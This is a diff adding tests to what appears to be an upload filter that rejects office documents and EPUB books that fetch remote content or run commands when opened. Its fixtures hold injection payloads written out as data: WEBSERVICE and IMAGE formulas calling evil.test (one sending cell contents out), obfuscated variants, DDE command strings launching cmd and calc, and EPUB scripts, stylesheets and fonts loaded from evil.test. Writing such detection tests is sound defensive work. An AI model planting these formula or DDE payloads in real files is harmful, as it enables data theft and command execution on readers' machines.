@@ -102,6 +102,19 @@ const opened = (content: string | Buffer, name = 'content.xml') => {
 const LONG = randomBytes(1_000_000).toString('hex')
 const image = (address: string) => `<draw:image draw:name=">" xlink:type='simple' xlink:href="${address}"/>`
 
+const sheet = (content: string, name = 'xl/worksheets/sheet1.xml') =>
+  zip([part('[Content_Types].xml'), part('xl/workbook.xml'), part(name, { data: `<a>${content}</a>` })])
+
+const book = (content: string, name = 'OEBPS/a.xhtml') => {
+  const mimetype = 'application/epub+zip'
+  const data = name.endsWith('.css') ? content : `<html>${content}</html>`
+  return zip([
+    { name: 'mimetype', data: mimetype, packed: Buffer.from(mimetype), method: 0 },
+    part('META-INF/container.xml'),
+    part(name, { data }),
+  ])
+}
+
 test.each([
   opened(image('Pictures/1.png') + image('../Object 1') + image('file:///C:/fotos/a.png')),
   opened('<text:p>href="https://example.org/"<text:a xlink:href="https://example.org/">x</text:a></text:p>'),
@@ -118,6 +131,7 @@ test.each([
   opened('<text:section-source xlink:href="https://evil.test/a.odt"/>', 'Object 1/content.xml'),
   opened('<meta:template xlink:href="https://evil.test/a.ott"/>', 'meta.xml'),
   opened('<script:event-listener xlink:href="vnd.sun.star.script:a.py"/>'),
+  opened('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.test/&quot;)"/>'),
   opened('<text:dde-connection-decl office:dde-application="cmd"/>'),
   opened('<!DOCTYPE a [<!ENTITY e "https://evil.test/">]><draw:image xlink:href="&e;"/>'),
 ])('what an OpenDocument file fetches or runs by itself is refused', async (bytes) => {
@@ -129,8 +143,47 @@ test.each([
   related('attachedTemplate', 'file:///C:\\Users\\ana\\Normal.dotm'),
   related('externalLinkPath', 'Notas 2026.xlsx'),
   docxWith({ name: 'word/embeddings/chart.xlsx', data: office('xl/workbook.xml') }),
+  docxWith({
+    name: 'word/footer1.xml',
+    data: '<w:fldChar w:fldCharType="begin"/><w:instrText> HYPERLINK "https://example.org/DDE a" </w:instrText><w:t>DDE a</w:t>',
+  }),
 ])('what is fetched by nobody, or by who asks for it, stays', async (bytes) => {
   expect((await keep(bytes)).kind).toBe('docx')
+})
+
+test.each([
+  sheet(
+    `<c t="inlineStr"><is><t>IMAGE (una imagen) y ${LONG.slice(0, 600_000)} WEBSERVICE(</t></is></c><f>SUM(A1:A2)</f>`,
+  ),
+  sheet(`<c><v>a|'b'!</v></c><f>HYPERLINK("https://example.org/")</f>`),
+])('formulas and texts of a workbook that fetch nothing stay', async (bytes) => {
+  expect((await keep(bytes)).kind).toBe('xlsx')
+})
+
+test.each([
+  '<a href="https://example.org/">x</a><img src="a.png" srcset="a.png 1x, b.png 2x"/><img src="data:image/png;base64,AA"/>',
+  '<link rel="canonical" href="https://example.org/"/><p style="color: red">background: url(https://example.org/)</p>',
+])('what a book has itself, or leads to, stays', async (page) => {
+  expect((await keep(book(page))).kind).toBe('epub')
+})
+
+test.each([
+  '<img src="https://evil.test/a.png"/>',
+  '<img srcset="a.png 1x, //evil.test/a.png 2x"/>',
+  '<svg:image xlink:href="http://evil.test/a"/>',
+  '<link rel="stylesheet" href="https://evil.test/a.css"/>',
+  '<script src="https://evil.test/a.js"></script>',
+  '<p style="background: url(&quot;https://evil.test/&quot;)">x</p>',
+  '<style>@import "https://evil.test/a.css";</style>',
+])('what a page of a book fetches is refused: %s', async (page) => {
+  await expect(keep(book(page))).rejects.toMatchObject({ code: 'document_has_macros' })
+})
+
+test('what the style or the list of a book fetches is refused', async () => {
+  const style = '@font-face { src: url(https://evil.test/a.woff) }'
+  const list = '<item href="https://evil.test/a.mp3" media-type="audio/mpeg"/>'
+  for (const bytes of [book(style, 'OEBPS/a.css'), book(list, 'OEBPS/a.opf')])
+    await expect(keep(bytes)).rejects.toMatchObject({ code: 'document_has_macros' })
 })
 
 test.each([
@@ -142,6 +195,17 @@ test.each([
   related('a" Hint=">', 'https://evil.test/a'),
   related('oleObject', 'file://evil.test/a'),
   docxWith({ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
+  docxWith({
+    name: 'word/footer1.xml',
+    data: '<w:instrText> DDE</w:instrText><w:instrText>AUTO cmd "/c a"</w:instrText>',
+  }),
+  docxWith({ name: 'word/footer1.xml', data: '<w:fldSimple w:instr=" DDE cmd a"/></w:p>' }),
+  sheet('<f>_xlfn.WEBSERVICE("https://evil.test/"&amp;A1)</f>'),
+  sheet('<f>_xlfn.&#73;MAGE("https://evil.test/")</f>'),
+  sheet('<f><![CDATA[WEB]]><!-- a -->SERVICE("https://evil.test/")</f>'),
+  sheet(`<f>cmd|'/c calc'!A0</f>`),
+  sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', 'xl/externalLinks/externalLink1.xml'),
+  sheet('<x:webPr url="https://evil.test/"/>', 'xl/connections.xml'),
 ])('what runs when it is opened is refused by its own name', async (bytes) => {
   await expect(keep(bytes)).rejects.toMatchObject({ code: 'document_has_macros' })
 })
